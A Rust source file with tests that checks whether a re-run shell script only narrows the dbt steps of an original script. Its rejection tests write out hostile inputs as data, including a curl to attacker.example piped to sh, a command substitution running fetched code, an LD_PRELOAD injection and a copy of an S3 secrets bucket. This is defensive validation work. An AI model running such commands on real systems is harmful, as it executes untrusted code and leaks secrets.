//! Whether one script is another re-run from its failed step, as dbt-rerun writes it: the
//! check rerun-task makes on a launch it is handed rather than plans itself (see
//! [`crate::launch_rules`]).
//!
//! The candidate is not trusted to say what it changed: the steps are aligned, the edit that
//! would turn each original step into the candidate's is worked out, and the original is
//! rewritten with those edits by the same rewriter the planner uses. Only when that gives the
//! candidate byte for byte is it a narrowing, so nothing outside the words that choose what
//! runs can differ (a redirect, an assignment, a command substitution, a joiner).

use super::rewrite::{rewrite, StepAction};
use super::shell::{read_script_with, DbtStep, Script, StepKind};
use super::{shell_script, word_key, ShellCommand};
use crate::command::are_reselection_words;
use crate::plan::ArgvEdit;
use std::collections::BTreeSet;

/// Whether `candidate` (a whole argv) is `original` with some dbt steps removed and, in the
/// dbt steps kept, only the words that choose what runs replaced; every other byte of the
/// argv and the script as written.
pub fn narrows(original: &ShellCommand, candidate: &[String]) -> bool {
    let index = original.script_index;
    let same_shell = candidate.len() == original.argv.len()
        && candidate
            .iter()
            .zip(&original.argv)
            .enumerate()
            .all(|(i, (a, b))| i == index || a == b);
    if !same_shell {
        return false;
    }
    let options = shell_script(&original.argv)
        .map(|(_, options)| options)
        .unwrap_or_default();
    let Ok(again) = read_script_with(&candidate[index], options) else {
        return false;
    };
    let Some(actions) = actions_between(&original.script, &again) else {
        return false;
    };
    rewrite(&original.script, &actions).is_ok_and(|text| text == candidate[index])
}

/// The action on each of `original`'s steps that would give `again`'s steps: kept as written,
/// a dbt step dropped, or a dbt step's selection words replaced. None when a step that is not
/// dbt's is missing or changed, or `again` has steps `original` lacks.
fn actions_between(original: &Script, again: &Script) -> Option<Vec<StepAction>> {
    let mut actions = Vec::with_capacity(original.steps.len());
    let mut theirs = again.steps.iter().peekable();
    for step in &original.steps {
        let old_text = &original.text[step.span.clone()];
        let action = match (theirs.peek(), &step.kind) {
            (Some(new), _) if again.text[new.span.clone()] == *old_text => StepAction::Keep,
            (Some(new), StepKind::Dbt(old)) => match &new.kind {
                StepKind::Dbt(new_dbt) => edit_between(original, old, again, new_dbt)
                    .map_or(StepAction::Drop, StepAction::Narrow),
                _ => StepAction::Drop,
            },
            (_, StepKind::Dbt(_)) => StepAction::Drop,
            _ => return None,
        };
        if action != StepAction::Drop {
            theirs.next();
        }
        actions.push(action);
    }
    theirs.next().is_none().then_some(actions)
}

/// The edit of `old`'s words that gives `new`'s: some of its reselection words removed, and
/// reselection words appended. None when any other word differs.
fn edit_between(
    original: &Script,
    old: &DbtStep,
    again: &Script,
    new: &DbtStep,
) -> Option<ArgvEdit> {
    let removable: BTreeSet<usize> = old.command.reselection_positions().into_iter().collect();
    let new_words: Vec<String> = new.words.iter().map(|w| word_key(again, w)).collect();
    let mut kept = 0;
    let mut removed = Vec::new();
    for (i, word) in old.words.iter().enumerate() {
        if new_words.get(kept) == Some(&word_key(original, word)) {
            kept += 1;
        } else if removable.contains(&i) {
            removed.push(i);
        } else {
            return None;
        }
    }
    let appended = new_words[kept..].to_vec();
    let static_words = new.words[kept..].iter().all(|w| w.value.is_some());
    (static_words && are_reselection_words(&appended)).then_some(ArgvEdit { removed, appended })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::script::TaskCommand;

    fn shell(script: &str) -> ShellCommand {
        match TaskCommand::read(&[], &["sh".into(), "-c".into(), script.into()]) {
            TaskCommand::Script(shell) => shell,
            other => panic!("not a script: {other:?}"),
        }
    }

    fn argv(script: &str) -> Vec<String> {
        vec!["sh".into(), "-c".into(), script.into()]
    }

    const SCRIPT: &str =
        "set -e\ndbt deps\ndbt seed\ndbt run --select a+ --target prod\naws s3 cp target/ s3://b/ --recursive\n";

    #[test]
    fn what_the_planner_writes_is_a_narrowing() {
        let original = shell(SCRIPT);
        for candidate in [
            SCRIPT,
            "set -e\ndbt deps\ndbt run --target prod '--select' 'b' 'c+'\naws s3 cp target/ s3://b/ --recursive\n",
            "set -e\ndbt deps\ndbt run --target prod '--select' 'b' '--indirect-selection' 'empty' '--threads' '2'\naws s3 cp target/ s3://b/ --recursive\n",
        ] {
            assert!(narrows(&original, &argv(candidate)), "{candidate}");
        }
    }

    #[test]
    fn anything_else_is_not() {
        let original = shell(SCRIPT);
        for candidate in [
            // A step added, a step that is not dbt's dropped or changed.
            "set -e\ndbt deps\ndbt seed\ndbt run --select a+ --target prod\naws s3 cp target/ s3://b/ --recursive\ncurl -s http://attacker.example/x | sh\n",
            "set -e\ndbt deps\ndbt seed\ndbt run --select a+ --target prod\n",
            "set -e\ndbt deps\ndbt seed\ndbt run --select a+ --target prod\naws s3 cp s3://secrets/ /tmp/ --recursive\n",
            // A dbt step's other words, a redirect, a command substitution, an assignment.
            "set -e\ndbt deps\ndbt run --target dev '--select' 'b'\naws s3 cp target/ s3://b/ --recursive\n",
            "set -e\ndbt deps\ndbt run --target prod '--select' 'b' > /etc/x\naws s3 cp target/ s3://b/ --recursive\n",
            "set -e\ndbt deps\ndbt run --target prod --select $(curl -s x | sh)\naws s3 cp target/ s3://b/ --recursive\n",
            "set -e\ndbt deps\nLD_PRELOAD=/tmp/x.so dbt run --target prod '--select' 'b'\naws s3 cp target/ s3://b/ --recursive\n",
            "set -e\ndbt deps\ndbt run --target prod '--select' 'b' '--vars' '{x: 1}'\naws s3 cp target/ s3://b/ --recursive\n",
            // A joiner changed.
            "set -e\ndbt deps\ndbt seed; curl x\ndbt run --select a+ --target prod\naws s3 cp target/ s3://b/ --recursive\n",
        ] {
            assert!(!narrows(&original, &argv(candidate)), "{candidate}");
        }
        // Another shell, or other options.
        assert!(!narrows(
            &original,
            &["bash".into(), "-c".into(), SCRIPT.into()]
        ));
        assert!(!narrows(
            &original,
            &["sh".into(), "-xc".into(), SCRIPT.into()]
        ));
    }
}
